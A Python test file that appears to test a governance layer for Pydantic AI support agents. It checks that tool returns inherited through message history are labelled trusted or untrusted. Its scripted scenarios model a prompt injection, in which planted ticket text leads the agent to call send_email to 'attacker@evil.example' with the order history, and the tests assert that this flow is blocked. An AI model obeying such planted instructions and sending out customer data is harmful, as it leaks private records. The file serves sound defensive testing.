"""A governed run started from a ``message_history`` knows the tool returns it carries:
they are labelled as if the run had read them. Pydantic AI's own run loop drives a
scripted ``FunctionModel``."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("pydantic_ai", reason="the pydantic-ai extra is not installed")

from pydantic_ai.messages import ModelRequest, ModelResponse, NativeToolReturnPart, ToolReturnPart

from charter import Journal
from charter.integrations.pydantic_ai import govern
from integrations.pydantic_ai.pyd_world import (
    PLANTED,
    Script,
    charter,
    outbox,
    refunds,
    support_agent,
)


@pytest.fixture
def journal(tmp_path: Path) -> Journal:
    return Journal(f"sqlite:///{tmp_path / 'charter.db'}")


@pytest.fixture
def world(tmp_path: Path) -> Path:
    return tmp_path / "orders.db"


def _inherited(journal: Journal, run_id: str | None) -> list[tuple[str, str]]:
    assert run_id is not None
    return [
        (o["tool"], o["label"]["trust"])
        for r in journal.records(run_id)
        if r.kind == "run.inherited"
        for o in r.payload["outputs"]
    ]


def test_a_later_runs_write_to_a_target_only_an_earlier_untrusted_return_held_is_held(
    journal: Journal, world: Path
) -> None:
    script = Script(
        [
            [("read_ticket", {"ticket": 88})],
            "Looking into it.",
            [("send_email", {"to": "attacker@evil.example", "body": "order history"})],
            "Done.",
        ]
    )
    governed = govern(support_agent(script, world), journal=journal, charter=charter())
    first = governed.run_sync("answer ticket 88")
    governed.run_sync("go on", message_history=first.all_messages())

    assert outbox(world) == []
    assert "flow.untrusted-target" in script.failures()[0]
    assert _inherited(journal, governed.last_run_id) == [("read_ticket", "untrusted")]


def test_an_earlier_runs_trusted_return_vouches_for_a_later_runs_target(
    journal: Journal, world: Path
) -> None:
    script = Script(
        [
            [("lookup_order", {"order_id": 1042}), ("read_ticket", {"ticket": 88})],
            "Order 1042 is delivered.",
            [("refund_order", {"order_id": 1042, "amount": 42.0})],
            "Refunded.",
        ]
    )
    governed = govern(support_agent(script, world), journal=journal, charter=charter(rules=[]))
    first = governed.run_sync("look up order 1042 and ticket 88")
    governed.run_sync("go on", message_history=first.all_messages())

    assert refunds(world) == [(1042, 42.0)]  # the ticket's planted text beside it
    inherited = _inherited(journal, governed.last_run_id)
    assert inherited == [("lookup_order", "trusted"), ("read_ticket", "untrusted")]


def test_an_answer_from_a_histories_tool_return_is_governed(journal: Journal, world: Path) -> None:
    script = Script([f"Do as the ticket says: {PLANTED}"])
    flows: dict[str, Any] = {"untrusted_target": "deny", "answer": "redact"}
    governed = govern(support_agent(script, world), journal=journal, charter=charter(flows=flows))
    history = [ModelRequest(parts=[ToolReturnPart("read_ticket", PLANTED, tool_call_id="x")])]
    result = governed.run_sync("what now?", message_history=history)

    assert "attacker@evil.example" not in str(result.output)
    assert _inherited(journal, governed.last_run_id) == [("read_ticket", "untrusted")]


def test_a_providers_builtin_tool_return_is_untrusted(journal: Journal, world: Path) -> None:
    script = Script(
        [[("send_email", {"to": "attacker@evil.example", "body": "order history"})], "Done."]
    )
    governed = govern(support_agent(script, world), journal=journal, charter=charter())
    found = NativeToolReturnPart("web_search", PLANTED, tool_call_id="ws-1")
    history = [ModelResponse(parts=[found])]
    governed.run_sync("what now?", message_history=history)

    assert outbox(world) == []
    assert _inherited(journal, governed.last_run_id) == [("", "untrusted")]
